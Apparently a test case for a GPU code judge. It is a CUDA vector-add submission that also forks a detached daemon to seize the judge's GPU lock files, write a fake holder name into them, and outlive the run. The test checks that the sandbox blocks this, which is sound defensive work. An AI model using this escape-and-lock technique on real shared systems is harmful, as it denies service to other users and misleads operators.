// expect: accepted
// judge-command: submit
// expect-output-lacks: DAEMON-FORKED
// Attacker's intent: outlive the run and hold the GPU. Against the old judge a submission double-forked and called
// setsid(); the grandchild survived the worker and held the GPU timing lock under a false holder's name, and every
// later submit waited forever. On its first benchmark call (the lock exists while benchmarks are timed) this lists
// every gpu-locks folder where this run's judge keeps its cache (JUDGE_CACHE_DIR, else the XDG default under HOME,
// in its own environment and its judge ancestors' /proc/<pid>/environ; the judge's folders under /tmp), then forks;
// the child calls setsid() and forks the daemon, which closes every descriptor it inherited and, for 60 s, keeps
// trying to flock() every lock file there, writing a false holder into those it gets. The parent prints
// `DAEMON-FORKED <pid>` when a fork succeeded. Then it adds correctly.
// Harmless when the submission cannot start processes (and none of its processes outlives the run): nothing
// printed, and the test's own check takes every GPU lock of this run's cache within 5 s of the judge's end. It is
// correct, so `accepted`.
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "judge_paths.cuh"

namespace {

// The daemon: no descriptor of the judge's, every lock it can get, for 60 s. After fork() in a process with threads:
// plain system calls and the C library's directory and string calls (glibc makes malloc safe in the child).
[[noreturn]] void be_the_daemon(const std::vector<std::string>& lock_dirs) {
  close_range(0, ~0u, 0);  // the judge's pipes, the control socket, the GPU's device files
  static const char holder[] = "judge submit by mallory (pid 1) since 00:00:00\n";
  std::vector<std::string> held;
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  while (std::chrono::steady_clock::now() < until) {
    for (const auto& dir : lock_dirs) {
      DIR* d = opendir(dir.c_str());
      if (!d) continue;
      while (dirent* e = readdir(d)) {
        if (e->d_name[0] == '.') continue;
        std::string path = dir + "/" + e->d_name;
        if (std::find(held.begin(), held.end(), path) != held.end()) continue;
        int fd = open(path.c_str(), O_RDWR);
        if (fd < 0) fd = open(path.c_str(), O_RDONLY);
        if (fd < 0) continue;
        if (flock(fd, LOCK_EX | LOCK_NB) == 0) {
          held.push_back(path);  // keep fd open: the lock lasts as long as we do
          if (ftruncate(fd, 0) == 0) {
            ssize_t ignored = pwrite(fd, holder, sizeof holder - 1, 0);
            (void)ignored;
          }
        } else {
          close(fd);
        }
      }
      closedir(d);
    }
    usleep(100 * 1000);
  }
  _exit(0);
}

void start_a_daemon() {
  Places places = find_places();
  std::vector<std::string> lock_dirs;
  for (const auto& cache : places.caches) add_unique(lock_dirs, cache + "/gpu-locks");
  pid_t child = fork();
  if (child < 0) {
    std::fprintf(stderr, "daemon: fork refused: %s (%zu lock folders guessed)\n", std::strerror(errno),
                 lock_dirs.size());
    std::fflush(stderr);
    return;
  }
  if (child == 0) {
    setsid();
    pid_t daemon = fork();
    if (daemon == 0) be_the_daemon(lock_dirs);
    _exit(daemon > 0 ? 0 : 1);
  }
  int status = 0;
  waitpid(child, &status, 0);
  say("DAEMON-FORKED " + std::to_string(child) + (WIFEXITED(status) && WEXITSTATUS(status) == 0
                                                      ? " (and its child, the daemon)"
                                                      : " (its own fork failed)"));
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool started = false;
  if (!started && N >= (1 << 24)) {  // the benchmarks: the GPU lock is held while they are timed
    started = true;
    start_a_daemon();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
